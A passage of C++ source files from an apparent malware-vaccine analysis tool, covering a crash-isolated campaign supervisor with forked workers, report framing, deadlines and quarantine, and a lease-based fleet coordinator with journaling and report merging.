// dies by SIGSEGV/abort/OOM-kill simply never completes its frame; the
// supervisor turns that into a failed SampleReport instead of a dead
// campaign.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>

#include "support/status.h"
#include "vaccine/pipeline.h"
#include "vm/program.h"

namespace autovac::campaign {

// Frame layout: magic ("AVWF"), payload length, payload bytes.
inline constexpr uint32_t kFrameMagic = 0x46575641;  // "AVWF" little-endian
inline constexpr uint32_t kMaxFramePayload = 256u << 20;
inline constexpr size_t kFrameHeaderSize = 8;

// Blocking write of one complete frame (worker side).
[[nodiscard]] Status WriteFrame(int fd, std::string_view payload);

// Attempts to decode one complete frame from `buffer` (everything the
// supervisor has read off the pipe so far). Returns the payload, a
// NotFound status when the buffer is an incomplete prefix of a valid
// frame (caller keeps reading), or InvalidArgument when the bytes can
// never become a valid frame.
[[nodiscard]] Result<std::string> DecodeFrame(std::string_view buffer);

// Derives the pipeline for retry `attempt` (0 = first try): each retry
// halves the phase-1 and impact cycle budgets — deterministic exponential
// backoff, so a sample that keeps flattening workers converges to a
// cheap, survivable run instead of burning the campaign's wall clock.
[[nodiscard]] vaccine::PipelineOptions BackoffOptions(
    const vaccine::PipelineOptions& options, size_t attempt);

// Worker body: analyze `sample` (with attempt-scaled budgets), write the
// report frame to `fd`, and _exit(0). Never returns. Runs in the forked
// child, so it must not touch parent-owned resources beyond the pipe.
[[noreturn]] void RunWorkerChild(const vaccine::VaccinePipeline& pipeline,
                                 const vm::Program& sample, size_t attempt,
                                 int fd);

}  // namespace autovac::campaign
