#include "campaign/worker.h"

#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstring>

#include "vaccine/json.h"

namespace autovac::campaign {
namespace {

void PutU32(std::string& out, uint32_t value) {
  out.push_back(static_cast<char>(value & 0xFF));
  out.push_back(static_cast<char>((value >> 8) & 0xFF));
  out.push_back(static_cast<char>((value >> 16) & 0xFF));
  out.push_back(static_cast<char>((value >> 24) & 0xFF));
}

uint32_t GetU32(std::string_view bytes) {
  return static_cast<uint32_t>(static_cast<unsigned char>(bytes[0])) |
         static_cast<uint32_t>(static_cast<unsigned char>(bytes[1])) << 8 |
         static_cast<uint32_t>(static_cast<unsigned char>(bytes[2])) << 16 |
         static_cast<uint32_t>(static_cast<unsigned char>(bytes[3])) << 24;
}

}  // namespace

Status WriteFrame(int fd, std::string_view payload) {
  if (payload.size() > kMaxFramePayload) {
    return Status::InvalidArgument("frame payload too large");
  }
  std::string frame;
  frame.reserve(kFrameHeaderSize + payload.size());
  PutU32(frame, kFrameMagic);
  PutU32(frame, static_cast<uint32_t>(payload.size()));
  frame.append(payload);
  size_t written = 0;
  while (written < frame.size()) {
    const ssize_t n =
        ::write(fd, frame.data() + written, frame.size() - written);
    if (n < 0) {
      if (errno == EINTR) continue;
      return Status::Internal(std::string("frame write failed: ") +
                              std::strerror(errno));
    }
    written += static_cast<size_t>(n);
  }
  return Status::Ok();
}

Result<std::string> DecodeFrame(std::string_view buffer) {
  if (buffer.size() < kFrameHeaderSize) {
    if (buffer.size() >= 4 && GetU32(buffer) != kFrameMagic) {
      return Status::InvalidArgument("bad frame magic");
    }
    return Status::NotFound("incomplete frame header");
  }
  if (GetU32(buffer) != kFrameMagic) {
    return Status::InvalidArgument("bad frame magic");
  }
  const uint32_t length = GetU32(buffer.substr(4));
  if (length > kMaxFramePayload) {
    return Status::InvalidArgument("frame payload too large");
  }
  if (buffer.size() < kFrameHeaderSize + length) {
    return Status::NotFound("incomplete frame payload");
  }
  if (buffer.size() > kFrameHeaderSize + length) {
    return Status::InvalidArgument("trailing bytes after frame");
  }
  return std::string(buffer.substr(kFrameHeaderSize, length));
}

vaccine::PipelineOptions BackoffOptions(
    const vaccine::PipelineOptions& options, size_t attempt) {
  vaccine::PipelineOptions derived = options;
  const uint64_t shift = std::min<size_t>(attempt, 63);
  derived.phase1_budget =
      std::max<uint64_t>(options.phase1_budget >> shift, 1);
  derived.impact.cycle_budget =
      std::max<uint64_t>(options.impact.cycle_budget >> shift, 1);
  return derived;
}

void RunWorkerChild(const vaccine::VaccinePipeline& pipeline,
                    const vm::Program& sample, size_t attempt, int fd) {
  vaccine::SampleReport report;
  if (attempt == 0) {
    report = vaccine::AnalyzeIsolated(pipeline, sample);
  } else {
    const vaccine::VaccinePipeline retry_pipeline(
        pipeline.exclusiveness_index(),
        BackoffOptions(pipeline.options(), attempt));
    report = vaccine::AnalyzeIsolated(retry_pipeline, sample);
  }
  // Failure to ship the frame is indistinguishable from a crash to the
  // supervisor, which is exactly the semantics we want: no report, no
  // completion.
  (void)WriteFrame(fd, vaccine::SampleReportToJson(report));
  // _exit, not exit: the child inherited the parent's stdio buffers and
  // atexit handlers; running them here would duplicate output and tear
  // down state the parent still owns.
  ::_exit(0);
}

}  // namespace autovac::campaign
