// Durable campaign supervisor.
//
// Wraps the crash-isolated in-process campaign runner with three
// production concerns the paper's long evaluation campaigns (§VI) need
// and C++ exception isolation cannot give:
//
//  1. Durability — a write-ahead journal (journal.h) records every
//     completed SampleReport; an interrupted campaign resumes by
//     replaying the journal and re-analyzing only the missing samples,
//     producing a CampaignReport byte-identical (CampaignReportToJson)
//     to an uninterrupted run under the same seed.
//  2. OS-level crash isolation — with workers enabled, each sample
//     attempt runs in a forked child (worker.h); SIGSEGV, abort or an
//     OOM kill becomes a failed SampleReport carrying the signal, never
//     a dead campaign.
//  3. Deadline + quarantine policy — a per-sample wall-clock watchdog
//     SIGKILLs hung workers (stalling is a deliberate anti-analysis
//     tactic; see Afianian et al. in PAPERS.md), crashed samples are
//     retried with a deterministically backed-off cycle budget, and a
//     sample that keeps killing workers lands on the poison list as
//     kQuarantined instead of being retried forever.
//
// The default configuration (jobs=1, no journal, no deadline) runs the
// exact in-process path of AnalyzeCampaign, preserving the existing
// determinism guarantees byte for byte.
#pragma once

#include <cstdint>
#include <functional>
#include <string>
#include <vector>

#include "campaign/journal.h"
#include "support/status.h"
#include "vaccine/pipeline.h"
#include "vm/program.h"

namespace autovac::campaign {

struct CampaignOptions {
  // Maximum concurrently running worker processes. jobs > 1 implies
  // worker isolation.
  size_t jobs = 1;

  // Wall-clock watchdog per sample attempt; 0 disables. A worker past
  // its deadline is SIGKILLed and the sample recorded as
  // kDeadlineExceeded (after retries/quarantine policy). Implies worker
  // isolation.
  uint64_t sample_deadline_ms = 0;

  // Write-ahead journal path; empty disables journaling.
  std::string journal_path;

  // Resume from an existing journal (requires journal_path). The journal
  // header must match this campaign's config digest.
  bool resume = false;

  // Extra caller-side configuration folded into the config digest (the
  // CLI passes its fault-injection flags here).
  std::string config_extra;

  // Retries after a worker death, each with cycle budgets halved
  // (worker.h BackoffOptions).
  size_t max_worker_retries = 1;

  // Poison list: a sample whose workers die this many times (crash or
  // deadline kill) is quarantined instead of retried.
  size_t quarantine_after_kills = 2;

  // Stop cleanly after this many samples completed in this run (0 = run
  // to the end). Simulates an operator interrupt deterministically; the
  // journal keeps everything completed so far, and the run reports
  // interrupted=true.
  size_t stop_after = 0;

  // Force forked workers even for jobs=1 with no deadline (tests).
  bool force_worker_isolation = false;

  // Test hook executed inside the forked worker before analysis, with
  // (sample index, attempt). Lets the chaos harness detonate SIGSEGV /
  // abort / hangs inside a real child. Setting it implies worker
  // isolation.
  std::function<void(size_t, size_t)> worker_test_hook;

  [[nodiscard]] bool WorkerMode() const {
    return jobs > 1 || sample_deadline_ms > 0 || force_worker_isolation ||
           worker_test_hook != nullptr;
  }
};

// Durability counters for one supervisor run. Deliberately outside
// CampaignReport: retries and resume splits are run-level noise, and the
// byte-identity guarantee covers the campaign artifact only.
struct CampaignRunStats {
  size_t samples_loaded = 0;    // replayed from the journal
  size_t samples_analyzed = 0;  // completed fresh in this run
  size_t workers_crashed = 0;   // child died by signal / bad exit
  size_t deadline_kills = 0;    // watchdog SIGKILLs
  size_t worker_retries = 0;    // re-attempts after a worker death
  size_t samples_quarantined = 0;
  bool interrupted = false;     // stop_after fired before the corpus ended
};

struct CampaignRun {
  vaccine::CampaignReport report;
  CampaignRunStats stats;
};

// Runs the campaign under the configured durability policy. Returns a
// non-OK status only for configuration/journal errors (unreadable or
// mismatched journal, fork/pipe failure); per-sample failures of any
// kind are recorded in the report, never escalated.
[[nodiscard]] Result<CampaignRun> RunDurableCampaign(
    const vaccine::VaccinePipeline& pipeline,
    const std::vector<vm::Program>& samples,
    const CampaignOptions& options = {});

}  // namespace autovac::campaign
