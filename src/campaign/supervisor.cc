#include "campaign/supervisor.h"

#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <chrono>
#include <cstring>
#include <deque>
#include <optional>
#include <utility>

#include "campaign/worker.h"
#include "support/strings.h"
#include "vaccine/json.h"

namespace autovac::campaign {
namespace {

using Clock = std::chrono::steady_clock;

// One in-flight forked worker.
struct Slot {
  pid_t pid = -1;
  int fd = -1;  // read end of the report pipe
  size_t index = 0;
  size_t attempt = 0;
  std::string buffer;  // bytes read so far (frame prefix)
  Clock::time_point deadline{};
  bool has_deadline = false;
  bool deadline_killed = false;
  bool eof = false;
};

// Builds the failure report the supervisor records when a worker died
// without delivering a usable frame.
vaccine::SampleReport FailureReport(const vm::Program& sample,
                                    vaccine::SampleDisposition disposition,
                                    Status cause) {
  vaccine::SampleReport report;
  report.sample_name = sample.name;
  report.sample_digest = sample.Digest();
  report.disposition = disposition;
  report.phase1_status = std::move(cause);
  return report;
}

Status DescribeDeath(const Slot& slot, int wait_status,
                     const CampaignOptions& options,
                     vaccine::SampleDisposition* disposition) {
  if (slot.deadline_killed) {
    *disposition = vaccine::SampleDisposition::kDeadlineExceeded;
    return Status::DeadlineExceeded(
        StrFormat("sample exceeded the %llu ms wall-clock deadline",
                  static_cast<unsigned long long>(options.sample_deadline_ms)));
  }
  *disposition = vaccine::SampleDisposition::kWorkerCrashed;
  if (WIFSIGNALED(wait_status)) {
    return Status::Internal(
        StrFormat("worker killed by signal %d", WTERMSIG(wait_status)));
  }
  if (WIFEXITED(wait_status)) {
    return Status::Internal(StrFormat(
        "worker exited with status %d without delivering a report",
        WEXITSTATUS(wait_status)));
  }
  return Status::Internal("worker vanished without delivering a report");
}

// Drains the pipe into the slot buffer; sets slot.eof once the child's
// write end is closed (i.e. the child exited or was killed).
Status DrainPipe(Slot& slot) {
  char chunk[1 << 16];
  while (true) {
    const ssize_t n = ::read(slot.fd, chunk, sizeof(chunk));
    if (n > 0) {
      if (slot.buffer.size() + static_cast<size_t>(n) >
          kMaxFramePayload + kFrameHeaderSize) {
        return Status::Internal("worker frame exceeds the payload bound");
      }
      slot.buffer.append(chunk, static_cast<size_t>(n));
      continue;
    }
    if (n == 0) {
      slot.eof = true;
      return Status::Ok();
    }
    if (errno == EINTR) continue;
    if (errno == EAGAIN || errno == EWOULDBLOCK) return Status::Ok();
    return Status::Internal(StrFormat("worker pipe read failed: %s",
                                      std::strerror(errno)));
  }
}

}  // namespace

Result<CampaignRun> RunDurableCampaign(
    const vaccine::VaccinePipeline& pipeline,
    const std::vector<vm::Program>& samples, const CampaignOptions& options) {
  if (options.jobs == 0) {
    return Status::InvalidArgument("campaign requires at least one job");
  }
  if (options.resume && options.journal_path.empty()) {
    return Status::InvalidArgument("resume requires a journal path");
  }

  CampaignRun run;
  std::vector<std::optional<vaccine::SampleReport>> done(samples.size());

  // --- Journal setup -----------------------------------------------------
  CampaignJournal journal;
  const bool journaling = !options.journal_path.empty();
  if (journaling) {
    const JournalHeader header =
        MakeJournalHeader(pipeline.options(), samples, options.config_extra);
    if (options.resume) {
      AUTOVAC_ASSIGN_OR_RETURN(
          CampaignJournal::Replay replay,
          CampaignJournal::Load(options.journal_path, samples.size()));
      if (replay.header.config_digest != header.config_digest) {
        return Status::FailedPrecondition(StrFormat(
            "journal %s belongs to a different campaign "
            "(config digest %s, expected %s); refusing to resume",
            options.journal_path.c_str(),
            replay.header.config_digest.c_str(), header.config_digest.c_str()));
      }
      done = std::move(replay.reports);
      run.stats.samples_loaded = replay.completed;
      AUTOVAC_ASSIGN_OR_RETURN(journal,
                               CampaignJournal::OpenAppend(options.journal_path));
    } else {
      AUTOVAC_ASSIGN_OR_RETURN(journal,
                               CampaignJournal::Create(options.journal_path,
                                                       header));
    }
  }

  // Pending work, corpus order. Each entry is (sample index, attempt).
  std::deque<std::pair<size_t, size_t>> queue;
  for (size_t i = 0; i < samples.size(); ++i) {
    if (!done[i].has_value()) queue.emplace_back(i, 0);
  }

  size_t budget = options.stop_after == 0 ? samples.size() : options.stop_after;
  bool stopping = false;

  // Records a finished sample: journal first (write-ahead), then mark
  // done. A sample only counts as completed once its record is durable.
  auto complete = [&](size_t index, vaccine::SampleReport report) -> Status {
    if (journaling) {
      AUTOVAC_RETURN_IF_ERROR(journal.Append(index, report));
    }
    done[index] = std::move(report);
    ++run.stats.samples_analyzed;
    if (budget > 0) --budget;
    if (budget == 0) stopping = true;
    return Status::Ok();
  };

  if (!options.WorkerMode()) {
    // ---- In-process mode: the exact AnalyzeCampaign loop, plus
    // journaling. Byte-for-byte identical output for jobs=1.
    while (!queue.empty() && !stopping) {
      const size_t index = queue.front().first;
      queue.pop_front();
      AUTOVAC_RETURN_IF_ERROR(
          complete(index, vaccine::AnalyzeIsolated(pipeline, samples[index])));
    }
  } else {
    // ---- Worker mode: fork one child per attempt, poll the report
    // pipes, enforce deadlines, retry / quarantine on death.
    std::vector<Slot> slots;
    std::vector<size_t> kills(samples.size(), 0);

    auto launch = [&](size_t index, size_t attempt) -> Status {
      int fds[2];
      if (::pipe(fds) != 0) {
        return Status::Internal(StrFormat("pipe failed: %s",
                                          std::strerror(errno)));
      }
      const pid_t pid = ::fork();
      if (pid < 0) {
        const int err = errno;
        ::close(fds[0]);
        ::close(fds[1]);
        return Status::Internal(StrFormat("fork failed: %s",
                                          std::strerror(err)));
      }
      if (pid == 0) {
        ::close(fds[0]);
        if (options.worker_test_hook) options.worker_test_hook(index, attempt);
        RunWorkerChild(pipeline, samples[index], attempt, fds[1]);
      }
      ::close(fds[1]);
      const int flags = ::fcntl(fds[0], F_GETFL, 0);
      (void)::fcntl(fds[0], F_SETFL, flags | O_NONBLOCK);
      Slot slot;
      slot.pid = pid;
      slot.fd = fds[0];
      slot.index = index;
      slot.attempt = attempt;
      if (options.sample_deadline_ms > 0) {
        slot.has_deadline = true;
        slot.deadline = Clock::now() +
                        std::chrono::milliseconds(options.sample_deadline_ms);
      }
      slots.push_back(std::move(slot));
      return Status::Ok();
    };

    // Reaps one finished slot: decode its frame if it delivered one,
    // otherwise apply the death policy (retry with backoff, quarantine,
    // or record the failure).
    auto finalize = [&](Slot& slot) -> Status {
      int wait_status = 0;
      while (::waitpid(slot.pid, &wait_status, 0) < 0 && errno == EINTR) {
      }
      ::close(slot.fd);
      slot.fd = -1;

      auto frame = DecodeFrame(slot.buffer);
      if (frame.ok()) {
        auto report = vaccine::ParseSampleReportJson(frame.value());
        if (report.ok()) {
          return complete(slot.index, std::move(report).value());
        }
        // A delivered-but-unparsable frame is a worker malfunction;
        // treat it like a crash so the retry/quarantine policy applies.
      }

      vaccine::SampleDisposition disposition;
      Status cause = DescribeDeath(slot, wait_status, options, &disposition);
      if (slot.deadline_killed) {
        ++run.stats.deadline_kills;
      } else {
        ++run.stats.workers_crashed;
      }
      ++kills[slot.index];

      if (kills[slot.index] >= options.quarantine_after_kills) {
        ++run.stats.samples_quarantined;
        return complete(
            slot.index,
            FailureReport(samples[slot.index],
                          vaccine::SampleDisposition::kQuarantined,
                          Status::FailedPrecondition(StrFormat(
                              "quarantined after %zu worker deaths; last: %s",
                              kills[slot.index], cause.message().c_str()))));
      }
      if (slot.attempt < options.max_worker_retries) {
        ++run.stats.worker_retries;
        // Front of the queue: retries jump ahead of fresh samples so a
        // sample's fate settles before the campaign moves on.
        queue.emplace_front(slot.index, slot.attempt + 1);
        return Status::Ok();
      }
      return complete(slot.index, FailureReport(samples[slot.index],
                                                disposition, std::move(cause)));
    };

    Status loop_error = Status::Ok();
    while (!slots.empty() || (!queue.empty() && !stopping)) {
      if (!loop_error.ok()) {
        // A journal/fork failure mid-flight: stop launching, but still
        // reap everything in flight before reporting it.
        stopping = true;
      }
      while (loop_error.ok() && !stopping && slots.size() < options.jobs &&
             !queue.empty()) {
        const auto [index, attempt] = queue.front();
        queue.pop_front();
        loop_error = launch(index, attempt);
      }
      if (slots.empty()) break;

      // Poll timeout: time until the earliest live deadline.
      int timeout_ms = -1;
      const Clock::time_point now = Clock::now();
      for (const Slot& slot : slots) {
        if (!slot.has_deadline || slot.deadline_killed) continue;
        const auto remain =
            std::chrono::duration_cast<std::chrono::milliseconds>(
                slot.deadline - now)
                .count();
        const int ms = static_cast<int>(std::max<long long>(remain, 0)) + 1;
        timeout_ms = timeout_ms < 0 ? ms : std::min(timeout_ms, ms);
      }

      std::vector<pollfd> fds(slots.size());
      for (size_t i = 0; i < slots.size(); ++i) {
        fds[i] = {slots[i].fd, POLLIN, 0};
      }
      if (::poll(fds.data(), fds.size(), timeout_ms) < 0 && errno != EINTR) {
        return Status::Internal(StrFormat("poll failed: %s",
                                          std::strerror(errno)));
      }

      const Clock::time_point after = Clock::now();
      for (size_t i = 0; i < slots.size(); ++i) {
        Slot& slot = slots[i];
        if (fds[i].revents & (POLLIN | POLLHUP | POLLERR)) {
          const Status drained = DrainPipe(slot);
          if (!drained.ok()) {
            // Unreadable pipe: kill the worker; finalize() records it.
            ::kill(slot.pid, SIGKILL);
            slot.eof = true;
          }
        }
        if (slot.has_deadline && !slot.deadline_killed && !slot.eof &&
            after >= slot.deadline) {
          ::kill(slot.pid, SIGKILL);
          slot.deadline_killed = true;
        }
      }

      for (size_t i = slots.size(); i-- > 0;) {
        if (!slots[i].eof) continue;
        Slot finished = std::move(slots[i]);
        slots.erase(slots.begin() + static_cast<long>(i));
        const Status status = finalize(finished);
        if (!status.ok() && loop_error.ok()) loop_error = status;
      }
    }
    AUTOVAC_RETURN_IF_ERROR(loop_error);
  }

  run.stats.interrupted = stopping && (!queue.empty() ||
                                       run.stats.samples_loaded +
                                               run.stats.samples_analyzed <
                                           samples.size());

  std::vector<vaccine::SampleReport> reports;
  reports.reserve(samples.size());
  for (std::optional<vaccine::SampleReport>& report : done) {
    if (report.has_value()) reports.push_back(std::move(*report));
  }
  run.report = vaccine::BuildCampaignReport(std::move(reports));
  return run;
}

}  // namespace autovac::campaign
