#include "fleet/verdict.h"

#include <string>
#include <unordered_set>

#include "os/host_environment.h"
#include "sandbox/sandbox.h"

namespace autovac::fleet {

net::VerdictRequest ScoreSample(const vm::Program& sample,
                                const VerdictOptions& options) {
  os::HostEnvironment env =
      os::HostEnvironment::StandardMachine(options.machine_seed);
  sandbox::RunOptions run;
  run.cycle_budget = options.cycle_budget;
  run.enable_taint = true;
  run.limits.max_api_calls = options.max_api_calls;
  const sandbox::RunResult result = sandbox::RunProgram(sample, env, run);

  net::VerdictRequest verdict;
  verdict.api_calls = result.api_trace.calls.size();
  std::unordered_set<std::string> identifiers;
  for (const trace::ApiCallRecord& call : result.api_trace.calls) {
    if (!call.is_resource_api) continue;
    ++verdict.resource_calls;
    if (call.taint_reached_predicate) ++verdict.tainted;
    if (!call.resource_identifier.empty()) {
      identifiers.insert(call.resource_identifier);
    }
  }
  verdict.identifiers = identifiers.size();
  // Resource probing whose outcome steered a branch is exactly the
  // §III constraint-checking behaviour vaccines exploit.
  verdict.suspicious = verdict.resource_calls > 0 && verdict.tainted > 0;
  return verdict;
}

}  // namespace autovac::fleet
