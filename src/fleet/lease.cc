#include "fleet/lease.h"

#include <chrono>
#include <utility>

namespace autovac::fleet {

LeaseTable::LeaseTable(size_t samples, Options options)
    : slots_(samples),
      options_(std::move(options)),
      next_lease_id_(options_.first_lease_id == 0 ? 1
                                                  : options_.first_lease_id) {
  if (options_.lease_ms == 0) options_.lease_ms = 1;
}

uint64_t LeaseTable::Now() const {
  if (options_.clock) return options_.clock();
  return static_cast<uint64_t>(
      std::chrono::duration_cast<std::chrono::milliseconds>(
          std::chrono::steady_clock::now().time_since_epoch())
          .count());
}

void LeaseTable::MarkCompleted(size_t index) {
  if (index >= slots_.size()) return;
  Slot& slot = slots_[index];
  if (slot.state == State::kCompleted) return;
  slot.state = State::kCompleted;
  ++completed_;
}

void LeaseTable::ReapExpired() {
  const uint64_t now = Now();
  for (size_t i = 0; i < slots_.size(); ++i) {
    Slot& slot = slots_[i];
    if (slot.state != State::kLeased || now < slot.lease_expiry) continue;
    // The window elapsed: return the sample to the queue and kill the
    // lease id. From here on the old holder is a zombie.
    slot_of_lease_.erase(slot.lease_id);
    slot.state = State::kPending;
    slot.lease_id = 0;
    slot.worker_id.clear();
    ++reassignments_;
  }
}

LeaseTable::Grant LeaseTable::Claim(const std::string& worker_id) {
  workers_.insert(worker_id);
  ReapExpired();
  Grant grant;
  if (done()) {
    grant.done = true;
    return grant;
  }
  for (size_t i = 0; i < slots_.size(); ++i) {
    Slot& slot = slots_[i];
    if (slot.state != State::kPending) continue;
    slot.state = State::kLeased;
    slot.lease_id = next_lease_id_++;
    slot.lease_expiry = Now() + options_.lease_ms;
    slot.worker_id = worker_id;
    slot_of_lease_[slot.lease_id] = i;
    grant.has_work = true;
    grant.index = i;
    grant.lease_id = slot.lease_id;
    grant.lease_ms = options_.lease_ms;
    return grant;
  }
  // Everything left is leased out right now; the caller polls again and
  // may inherit an expired lease on a later claim.
  return grant;
}

bool LeaseTable::Renew(uint64_t lease_id) {
  const auto it = slot_of_lease_.find(lease_id);
  if (it == slot_of_lease_.end()) return false;
  Slot& slot = slots_[it->second];
  // Not reaped yet, so the lease is still the sample's current one —
  // renew even if the window technically elapsed (grace; see lease.h).
  slot.lease_expiry = Now() + options_.lease_ms;
  return true;
}

LeaseTable::CompleteOutcome LeaseTable::Complete(uint64_t lease_id,
                                                 size_t index) {
  if (index >= slots_.size()) {
    ++stale_rejections_;
    return CompleteOutcome::kStale;
  }
  Slot& slot = slots_[index];
  if (slot.state == State::kCompleted) {
    ++duplicates_;
    return CompleteOutcome::kDuplicate;
  }
  if (slot.state != State::kLeased || slot.lease_id != lease_id) {
    // Reassigned (or never this worker's): the zombie-upload rejection.
    ++stale_rejections_;
    return CompleteOutcome::kStale;
  }
  slot_of_lease_.erase(slot.lease_id);
  slot.state = State::kCompleted;
  slot.lease_id = 0;
  ++completed_;
  return CompleteOutcome::kAccepted;
}

bool LeaseTable::IsLive(uint64_t lease_id, size_t index) const {
  const auto it = slot_of_lease_.find(lease_id);
  return it != slot_of_lease_.end() && it->second == index;
}

size_t LeaseTable::leased() const { return slot_of_lease_.size(); }

}  // namespace autovac::fleet
