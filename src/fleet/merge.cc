#include "fleet/merge.h"

#include <utility>

#include "support/strings.h"

namespace autovac::fleet {

Result<vaccine::CampaignReport> MergeFleetReports(
    std::vector<std::optional<vaccine::SampleReport>> reports,
    const std::vector<vm::Program>& samples) {
  if (reports.size() != samples.size()) {
    return Status::Internal(
        StrFormat("merge: %zu report slots for %zu samples", reports.size(),
                  samples.size()));
  }
  std::vector<vaccine::SampleReport> ordered;
  ordered.reserve(samples.size());
  for (size_t i = 0; i < samples.size(); ++i) {
    if (!reports[i].has_value()) {
      return Status::Internal(StrFormat(
          "merge: sample %zu (%s) has no report — the campaign is not done",
          i, samples[i].name.c_str()));
    }
    if (reports[i]->sample_digest != samples[i].Digest()) {
      return Status::Internal(StrFormat(
          "merge: sample %zu report digest %s does not match corpus digest "
          "%s",
          i, reports[i]->sample_digest.c_str(), samples[i].Digest().c_str()));
    }
    ordered.push_back(std::move(*reports[i]));
  }
  return vaccine::BuildCampaignReport(std::move(ordered));
}

}  // namespace autovac::fleet
