// Fleet coordinator: shards a corpus across remote detonation workers
// under leases, journals assignment and completion write-ahead, and
// merges the results into a CampaignReport byte-identical to a
// fault-free single-host run — for any failure schedule.
//
// Server shape follows vacd (net/server.h): one Unix listening socket,
// an accept thread, a bounded worker pool shedding BUSY at the door.
// All campaign state (lease table, completed reports, dedup window,
// journal) lives under one mutex — claims and completes mutate, and the
// request rate is worker-bounded, so a reader/writer split buys nothing.
//
// Fault tolerance, by failure:
//   * worker crash/stall/partition — its lease expires unrenewed; the
//     next claim reaps it and reassigns the sample (lease.h);
//   * zombie worker — a complete under a reassigned lease is rejected
//     as stale, so the sample is never counted twice;
//   * lost acknowledgement — a retried complete carries the same
//     request id and is answered from the dedup window, or lands in the
//     already-completed duplicate path; either way it is applied once;
//   * coordinator SIGKILL — completions are journaled (fsync) *before*
//     they are acknowledged; a restarted coordinator replays the
//     journal, re-leases only the in-flight delta, and issues lease ids
//     strictly above every journaled one, so stale leases from the dead
//     incarnation can never be honored.
//
// Extracted vaccines stream into an optional VaccineStore as each
// sample completes — detonation output becomes fleet-pullable
// immunization without a separate publish step.
#pragma once

#include <atomic>
#include <condition_variable>
#include <cstdint>
#include <deque>
#include <memory>
#include <mutex>
#include <optional>
#include <string>
#include <thread>
#include <unordered_map>
#include <vector>

#include "campaign/journal.h"
#include "fleet/lease.h"
#include "net/fleet_protocol.h"
#include "support/status.h"
#include "support/threadpool.h"
#include "vaccine/pipeline.h"
#include "vacstore/store.h"
#include "vm/program.h"

namespace autovac::fleet {

struct CoordinatorOptions {
  std::string socket_path;
  size_t threads = 4;
  size_t max_pending = 64;      // shed BUSY past this many in flight
  uint64_t deadline_ms = 5000;  // per-connection socket deadline
  uint64_t lease_ms = 5000;     // lease validity window
  // Write-ahead journal (campaign/journal.h); empty = in-memory only
  // (tests), which forfeits coordinator crash recovery.
  std::string journal_path;
  bool resume = false;
  // Caller-side configuration folded into the config digest.
  std::string config_extra;
  // Complete replies remembered per request id (the idempotent-upload
  // window); 0 disables.
  size_t dedup_window = 256;
  // Streaming ingest target for extracted vaccines; empty disables.
  std::string store_path;
  // Test clock for the lease table (deterministic expiry).
  LeaseTable::Clock clock;
  // Chaos hook: SIGKILL the process right after journaling the n-th
  // assignment (1-based), before the claim is acknowledged — the
  // "coordinator mid-assignment" crash point. 0 disables.
  size_t crash_after_assignments = 0;
};

struct CoordinatorStats {
  uint64_t verdicts = 0;
  uint64_t suspicious = 0;
  uint64_t ingested = 0;         // vaccines accepted into the store
  uint64_t ingest_failures = 0;  // store pushes that failed (non-fatal)
  uint64_t dedup_hits = 0;       // completes answered from the window
  size_t resumed_completed = 0;  // samples replayed from the journal
  uint64_t resumed_max_lease = 0;
};

class FleetCoordinator {
 public:
  // `options` is the pipeline configuration the whole fleet must share;
  // the coordinator never analyzes, but digests it so misconfigured
  // workers refuse their claims.
  FleetCoordinator(std::vector<vm::Program> samples,
                   vaccine::PipelineOptions pipeline_options,
                   CoordinatorOptions options);
  ~FleetCoordinator();
  FleetCoordinator(const FleetCoordinator&) = delete;
  FleetCoordinator& operator=(const FleetCoordinator&) = delete;

  // Creates/resumes the journal, opens the ingest store, binds the
  // socket and starts serving claims.
  [[nodiscard]] Status Start();

  // Blocks until every sample is completed, a fatal journal error
  // occurs, or `timeout_ms` elapses (0 = wait forever).
  [[nodiscard]] Status WaitUntilDone(uint64_t timeout_ms = 0);

  // Graceful, idempotent shutdown (destructor calls it too).
  void Stop();

  // The merged campaign artifact; Internal until every sample is done.
  [[nodiscard]] Result<vaccine::CampaignReport> Report() const;

  [[nodiscard]] net::FleetStatusReply Progress() const;
  [[nodiscard]] CoordinatorStats Stats() const;
  [[nodiscard]] const std::string& config_digest() const {
    return config_digest_;
  }

  // Total requests dispatched since Start(). Lets a caller that wants to
  // shut down after the campaign completes wait for the fleet to go
  // quiet first, so idle workers observe done=true on their next claim
  // instead of a torn connection.
  [[nodiscard]] uint64_t requests_served() const {
    return requests_served_.load(std::memory_order_relaxed);
  }

 private:
  void AcceptLoop();
  void ServeConnection(int fd);
  [[nodiscard]] net::FleetReply Dispatch(const net::FleetRequest& request);
  [[nodiscard]] net::FleetReply HandleClaim(const net::ClaimRequest& claim);
  [[nodiscard]] net::FleetReply HandleComplete(
      const net::CompleteRequest& complete);
  [[nodiscard]] net::FleetStatusReply ProgressLocked() const;

  std::vector<vm::Program> samples_;
  std::vector<std::string> sample_digests_;  // cached, index-aligned
  vaccine::PipelineOptions pipeline_options_;
  CoordinatorOptions options_;
  std::string config_digest_;

  mutable std::mutex mutex_;
  std::condition_variable done_cv_;
  std::unique_ptr<LeaseTable> leases_;
  std::vector<std::optional<vaccine::SampleReport>> done_;
  campaign::CampaignJournal journal_;
  vacstore::VaccineStore store_;
  bool ingest_ = false;
  Status fatal_ = Status::Ok();  // journal failure: the run is poisoned

  // Request-id -> recorded complete reply, FIFO-bounded.
  std::unordered_map<std::string, net::CompleteReply> dedup_replies_;
  std::deque<std::string> dedup_order_;

  CoordinatorStats stats_;
  size_t assignments_journaled_ = 0;

  int listen_fd_ = -1;
  int stop_pipe_[2] = {-1, -1};
  std::thread accept_thread_;
  std::unique_ptr<ThreadPool> pool_;
  bool running_ = false;
  std::atomic<size_t> pending_{0};
  std::atomic<uint64_t> requests_served_{0};
};

}  // namespace autovac::fleet
