// Fleet control-plane client: the worker agent's view of the
// coordinator. Connection per request over AVNF (net/client.h
// FrameRoundTrip), with the same RetryPolicy/backoff/jitter discipline
// as the vacd client — a worker behind a lying network retries BUSY
// sheds, torn replies, refused connects and deadline misses, and every
// retry of one logical upload presents the same request id.
#pragma once

#include <cstdint>
#include <functional>
#include <string>

#include "net/client.h"
#include "net/fleet_protocol.h"
#include "support/status.h"

namespace autovac::fleet {

class FleetClient {
 public:
  explicit FleetClient(std::string socket_path, uint64_t deadline_ms = 5000,
                       net::RetryPolicy retry = net::RetryPolicy())
      : socket_path_(std::move(socket_path)),
        deadline_ms_(deadline_ms),
        retry_(retry) {}

